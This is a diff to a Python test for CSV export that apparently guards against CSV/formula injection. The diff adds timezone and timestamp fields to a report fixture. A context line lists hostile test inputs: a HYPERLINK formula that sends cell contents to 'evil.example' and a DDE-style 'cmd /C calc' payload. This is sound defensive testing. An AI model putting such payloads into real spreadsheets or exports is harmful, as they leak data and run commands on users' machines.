@@ -4,6 +4,7 @@ CSV injection), and numbers, negative ones included, stay numbers."""
 from __future__ import annotations
 
 import csv
+from datetime import datetime, timezone
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -17,7 +18,9 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc
 def _report(names: list[str], cost: float = 1.5) -> SimpleNamespace:
     lines = {kind: [] for kind in KINDS}
     lines["user"] = [Line("user", n, it_kwh=1.25, cost=cost) for n in names]
-    return SimpleNamespace(lines=lines, currency="EUR")
+    return SimpleNamespace(lines=lines, currency="EUR", tz="UTC", start_ts=1_793_491_200,
+                           end_ts=1_796_083_200,
+                           local=lambda ts: datetime.fromtimestamp(ts, timezone.utc))
 
 
 def _rows(path: Path) -> list[dict[str, str]]:
